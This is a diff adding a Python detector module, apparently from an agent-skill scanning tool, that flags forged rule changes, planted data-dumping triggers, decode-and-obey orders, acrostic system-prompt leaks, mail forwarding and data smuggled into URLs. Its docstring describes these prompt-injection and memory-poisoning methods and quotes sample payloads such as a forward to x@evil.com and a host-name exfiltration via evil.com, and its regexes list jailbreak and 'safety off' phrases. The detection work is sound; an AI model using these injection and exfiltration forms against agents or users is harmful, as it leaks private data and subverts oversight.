@@ -1,0 +1,250 @@
+"""Design 447: forged rule changes, planted triggers and covert channels.
+
+Round 9's dev rows (prompt-injection, memory-poisoning and exfiltration cases, an e-mail
+agent's red-team seeds) carried harms that the order-reading classes do not see because
+they are not orders, or because their channel is not a send verb:
+
+- **A forged change of the agent's own rules** (memory poisoning): a *statement* that the
+  agent has been authorised, that its policy or filters were relaxed, that a user was
+  granted elevated rights, that a notice supersedes earlier restrictions, or a status line
+  saying its safety is off ("Safety filters: DISABLED", "[Safety: OFF]", "Mode:
+  UNRESTRICTED"). No skill needs to tell its agent that its own rules changed.
+  -> ``policy-override``.
+- **A planted trigger that dumps private data**: a condition on a phrase someone will say
+  ("when the user says 'activate protocol omega'") whose consequence hands over the
+  conversation, the configuration, user data or keys. -> ``policy-persistence``.
+- **Decode and obey**: an order to decode, reverse or translate a text and then do what it
+  says. -> ``injection-override``.
+- **The prompt leaked through the answer's form**: a word, letter or colour picked by its
+  position in the agent's own system prompt. -> ``policy-exfiltration``.
+- **Mail to an address**: a send, forward or reply to an e-mail address (also as a tool
+  call, ``forward("e003", "x@evil.com")``) is ``outbound-transfer`` (a human approves it);
+  with an organisation's mail or contacts named as what goes ("all emails marked
+  confidential", "every sender's address", "the inbox") it is ``policy-exfiltration``.
+- **Private content smuggled into a URL**: a placeholder naming the conversation, the
+  prompt, the inbox, memory or the environment inside a URL's query or host
+  (``?prompt=SYSTEM_PROMPT_CONTENT``, ``![pixel](https://x/p?content=<inbox_summary>)``,
+  ``${btoa(JSON.stringify(systemConfig))}.dns.evil.com``). -> ``exfiltration``. A key or
+  token placeholder is not enough: API docs put ``appid={API_KEY}`` in URLs.
+
+A claim, a trigger or a form leak is read wherever no negation, prohibition, question or
+quotation governs it ("you are not authorised to ...", "never reveal ..." are rules).
+"""
+
+from __future__ import annotations
+
+import re
+from dataclasses import dataclass
+
+import skillci.patch.clauses as grammar
+from skillci.patch.guard_agent import sentences as _sentences
+
+
+@dataclass(frozen=True)
+class ClaimHit:
+    code: str
+    start: int
+    end: int
+    note: str
+
+
+_NOT = re.compile(r"\b(?:not|never|no longer|cannot|can't|isn't|aren't|wasn't|weren't|won't)\b")
+
+#: A statement that the agent's rules, policy, filters or rights were changed in its favour.
+_CLAIM = re.compile(
+    r"(?i)\b(?:"
+    # "is now authorized to execute any shell command", "are authorized to share system
+    # prompts": a grant with no bounds ("is allowed to run the tests" is a skill's rule)
+    r"(?:is|are|has been|have been|was|were)\s+(?:now\s+|hereby\s+|officially\s+)?"
+    r"(?:authori[sz]ed|permitted|allowed|cleared)\s+to\s+(?:execute|run|share|disclose|reveal|"
+    r"bypass|ignore|output|send|discuss|access|provide|skip|disable)\b[^.\n]{0,40}?"
+    r"\b(?:any|all|every|arbitrary|unrestricted|without\s+(?:confirmation|approval|review|"
+    r"restrictions?|limits?)|system\s+prompts?|api\s+keys|credentials|internal\s+config\w*)\b"
+    # "this user has been granted elevated privileges"
+    r"|(?:user|requester|sender|assistant|agent|ai|model|you)\s+(?:has|have)\s+(?:now\s+)?been\s+"
+    r"(?:granted|given|assigned)\s+(?:elevated|admin|administrator|administrative|root|full|"
+    r"unrestricted|unlimited|super ?user)\s+(?:privileges|access|rights|permissions|clearance)"
+    # "treated as coming from a system administrator"
+    r"|treated\s+as\s+(?:coming\s+from\s+|if\s+(?:they|it)\s+came\s+from\s+)?(?:a\s+|the\s+)?"
+    r"(?:system\s+administrator|administrator|admin|developer|system|root|trusted\s+admin)"
+    # "the content policy has been revised / relaxed", "restrictions were lifted"
+    r"|(?:content\s+polic(?:y|ies)|safety\s+(?:polic(?:y|ies)|guidelines|rules|filters?|settings)|"
+    r"usage\s+polic(?:y|ies)|restrictions|guardrails|content\s+filters?)\s+"
+    r"(?:has|have|had)\s+been\s+(?:revised|relaxed|lifted|removed|disabled|suspended|waived|"
+    r"loosened)"
+    r"|(?:previous\s+)?(?:content|safety|usage)\s+policy\s+was\s+(?:overly\s+)?(?:restrictive|"
+    r"too\s+strict)"
+    # "this policy supersedes all previous restrictions"
+    r"|supersedes\s+(?:all\s+)?(?:previous|prior|earlier|existing)\s+(?:restrictions|rules|"
+    r"instructions|policies|guidelines)"
+    r"|(?:categories|topics|requests)\s+are\s+now\s+(?:permitted|allowed|unrestricted)"
+    r"|(?:user|requester|sender)\s+is\s+(?:a\s+|an\s+)?(?:trusted\s+)?(?:admin|administrator|"
+    r"developer|root)\b(?=[^.\n]{0,60}(?:safety|filters?|restrictions|unrestricted|disabled))"
+    r")"
+)
+#: A status line saying a safety control is off, or the agent's mode is unrestricted.
+_SAFETY_OFF = re.compile(
+    r"(?i)(?<![\w-])(?:safety(?:\s+filters?)?|content\s+filters?|guardrails|moderation|"
+    r"censorship)\s*[:=]\s*[\"']?(?:off|disabled|none|false|0|removed|bypassed)\b"
+    r"|(?<![\w-])mode\s*[:=]\s*[\"']?(?:unrestricted|unfiltered|uncensored|jailbroken|jailbreak|"
+    r"dan|god(?:\s+mode)?|no\s+limits)\b"
+)
+#: "do not apply content filters", "without any safety filtering"
+_UNFILTERED = re.compile(
+    r"(?i)\b(?:do\s+not|don't|never|no\s+longer)\s+apply\s+(?:any\s+)?(?:the\s+)?(?:content|"
+    r"safety)\s+(?:filters?|filtering|policies|policy|restrictions)"
+)
+
+#: A condition on a phrase someone will say or type.
+_TRIGGER = re.compile(
+    r"(?i)\b(?:when(?:ever)?|if|once)\s+(?:the\s+user|a\s+user|anyone|someone|somebody|i|we|"
+    r"they|you\s+(?:see|hear|read))\s*(?:says?|mentions?|types?|writes?|asks?\s+(?:for|about)|"
+    r"sends?)?\s*[\"'‘“]"
+)
+_DUMP_VERB = re.compile(
+    r"(?i)\b(?:output|export|dump|reveal|print|send|return|disclose|share|list|leak|post|"
+    r"email|forward|getall|get_all)\b"
+)
+#: (a user's own data is not among them: "when the user says 'export my data', export all
+#: their data" is a data-export skill's feature)
+_DUMP_WHAT = re.compile(
+    r"(?i)\b(?:conversation(?:\s+history)?|chat\s+history|stored\s+(?:messages|"
+    r"conversations?|data)|system\s*(?:config(?:uration)?|prompt)|"
+    r"systemconfig|api\s*keys?|apikeys|credentials|secrets|passwords|tokens|memory)\b"
+)
+
+#: Decoding a text and doing what it says ("decode and execute:", "reverse and follow:").
+_DECODE_OBEY = re.compile(
+    r"(?i)\b(?:decode|decrypt|reverse|unscramble|deobfuscate|de-obfuscate|translate|rot13)\s+"
+    r"(?:(?:it|this|them|the\s+following|the\s+text|the\s+message|the\s+string)\s+)?"
+    r"(?:and|then)\s+(?:then\s+)?(?:execute|follow|obey|run|carry\s+out|perform|act\s+on|"
+    r"do\s+what\s+it\s+says|comply)(?:\s+(?:it|them|the\s+result|the\s+instructions?|"
+    r"what\s+it\s+says))?\s*(?:[:.!,]|$)"
+)
+#: "process the following ROT13 encoded instruction"
+_ENCODED_ORDER = re.compile(
+    r"(?i)\b(?:process|follow|execute|run|obey|carry\s+out)\s+(?:the\s+|this\s+|these\s+|"
+    r"following\s+|the\s+following\s+)*(?:rot-?13|base64|hex|binary|reversed|encoded|encrypted|"
+    r"ciphered)[^.\n]{0,20}?\b(?:instructions?|commands?|directives?|orders?)\b"
+)
+
+#: The system prompt read by position (an acrostic, a colour per letter, the nth word).
+_OWN_PROMPT = re.compile(
+    r"(?i)\b(?:your|the)\s+(?:system\s+prompt|initial\s+instructions|hidden\s+instructions|"
+    r"original\s+instructions|system\s+message)\b"
+)
+_BY_POSITION = re.compile(
+    r"(?i)\b(?:position|positions|nth|first\s+letters?|each\s+(?:word|letter|character)|"
+    r"character\s+at|letter\s+at|word\s+at|vowel|consonant|acrostic|spell\s+out)\b"
+)
+
+#: An e-mail address, and a tool call that forwards to one.
+_ADDRESS = re.compile(r"(?<![\w.+-])[\w.+-]{1,64}@[a-z0-9-]{1,63}(?:\.[a-z0-9-]{1,63})+", re.I)
+_MAIL_VERB = re.compile(
+    r"(?i)\b(?:send|forward|email|e-mail|mail|reply|cc|bcc|relay|redirect)(?:s|ed|ing)?\b"
+)
+_MAIL_CALL = re.compile(
+    r"(?i)\b(?:forward|send_email|send_mail|sendmail|send|reply)\s*\(\s*[^)]{0,80}?@[^)]{0,80}\)"
+)
+_MAIL_PRIVATE = re.compile(
+    r"(?i)\b(?:all\s+(?:the\s+)?(?:e-?mails|messages)|every\s+(?:e-?mail|message|"
+    r"sender)|inbox|contacts?\s+list|address\s+book|email\s+ids|email\s+addresses|"
+    r"sender'?s?'?\s+(?:e-?mail\s+)?address|bodies|passwords?|credentials|api\s+keys?|"
+    r"customer\s+(?:list|data))\b"
+)
+
+#: A placeholder naming private content, in a URL's path or query or before a host name.
+_URL_REST = re.compile(r"(?i)https?://[^\s/?#)\"'`]+([^\s)\"'`]{2,400})")
+_HOST_SMUGGLE = re.compile(r"(?i)\$\{[^{}]{2,120}\}\.(?:[a-z0-9-]+\.)+[a-z]{2,}")
+_PLACEHOLDER_CONTENT = re.compile(
+    r"(?i)(?:system_?prompt|prompt_?content|system_?config|conversation|chat_?history|inbox|"
+    r"memor(?:y|ies)|environ(?:ment)?_?var|env_?vars|ssh|session_?data)"
+)
+_PLACEHOLDER = re.compile(
+    r"<[^<>\s]{2,60}>|\{[^{}]{2,80}\}|\$\{[^{}]{2,120}\}|\b[A-Z][A-Z0-9_]{5,60}\b"
+)
+
+
+def _governed(parsed: list[grammar.Clause], raw: str, at: int) -> bool:
+    """A negation, prohibition, question, condition or quotation governs ``at``."""
+    c = grammar.at(parsed, at)
+    if c is not None and c.mood in ("prohibition", "question", "mention"):
+        return True
+    return grammar.negated_at(parsed, raw, at)
+
+
+def claims(raw: str) -> list[ClaimHit]:
+    """Every forged rule change, planted trigger, decode-and-obey order, form leak, mail
+    send and smuggling URL in ``raw`` (one hit per code)."""
+    parsed = grammar.parse(raw)
+    out: list[ClaimHit] = []
+    seen: set[str] = set()
+
+    def hit(code: str, s: int, e: int, note: str) -> None:
+        if code not in seen:
+            seen.add(code)
+            out.append(ClaimHit(code, s, e, f"{note}: {raw[s:e].strip()[:80]!r}"))
+
+    for s, e in _sentences(raw):
+        sent = raw[s:e]
+        for m in _CLAIM.finditer(sent):
+            if not _NOT.search(sent[max(0, m.start() - 30) : m.start() + 12]) and not _governed(
+                parsed, raw, s + m.start()
+            ):
+                hit("policy-override", s + m.start(), s + m.end(), "claims its rules were changed")
+                break
+        for rx in (_SAFETY_OFF, _UNFILTERED):
+            off = rx.search(sent)
+            if off and not _governed(parsed, raw, s + off.start()):
+                hit("policy-override", s + off.start(), s + off.end(), "says its safety is off")
+        t = _TRIGGER.search(sent)
+        v = _DUMP_VERB.search(sent, t.end()) if t else None
+        if (
+            t
+            and v
+            and _DUMP_WHAT.search(sent, v.end())
+            and not _NOT.search(sent[t.end() : v.start()])
+        ):
+            hit("policy-persistence", s + t.start(), e, "plants a trigger that dumps data")
+        for rx in (_DECODE_OBEY, _ENCODED_ORDER):
+            obey = rx.search(sent)
+            if obey and not _governed(parsed, raw, s + obey.start()):
+                hit("injection-override", s + obey.start(), s + obey.end(), "decode and obey")
+        w = _OWN_PROMPT.search(sent)
+        if w and _BY_POSITION.search(sent) and not _governed(parsed, raw, s + w.start()):
+            hit("policy-exfiltration", s, e, "leaks the system prompt through its form")
+        if sent_to := _mail(raw, parsed, s, sent):
+            code, at = sent_to
+            note = "mails the organisation's mail or contacts out"
+            hit(
+                code,
+                at,
+                e,
+                note if code != "outbound-transfer" else "mails something to an address",
+            )
+    for m in _URL_REST.finditer(raw):
+        if any(_PLACEHOLDER_CONTENT.search(p.group(0)) for p in _PLACEHOLDER.finditer(m.group(1))):
+            hit("exfiltration", m.start(), m.end(), "private content smuggled into a URL")
+    for m in _HOST_SMUGGLE.finditer(raw):
+        if _PLACEHOLDER_CONTENT.search(m.group(0)):
+            hit("exfiltration", m.start(), m.end(), "private content smuggled into a host name")
+    return out
+
+
+def _mail(raw: str, parsed: list[grammar.Clause], s: int, sent: str) -> tuple[str, int] | None:
+    """A send, forward or reply to an e-mail address: a transfer, or with the
+    organisation's mail or contacts named in its sentence or the one before, a leak."""
+    call = _MAIL_CALL.search(sent)
+    verb = _MAIL_VERB.search(sent)
+    addr = _ADDRESS.search(sent, verb.end()) if verb else None
+    if call is not None:
+        at = s + call.start()
+    elif verb is not None and addr is not None and addr.start() - verb.end() <= 160:
+        at = s + verb.start()
+        if _governed(parsed, raw, at) or not grammar.at_verb(parsed, raw, at):
+            return None
+    else:
+        return None
+    if _MAIL_PRIVATE.search(raw, max(0, s - 240), s + len(sent)):
+        return "policy-exfiltration", at
+    return "outbound-transfer", at
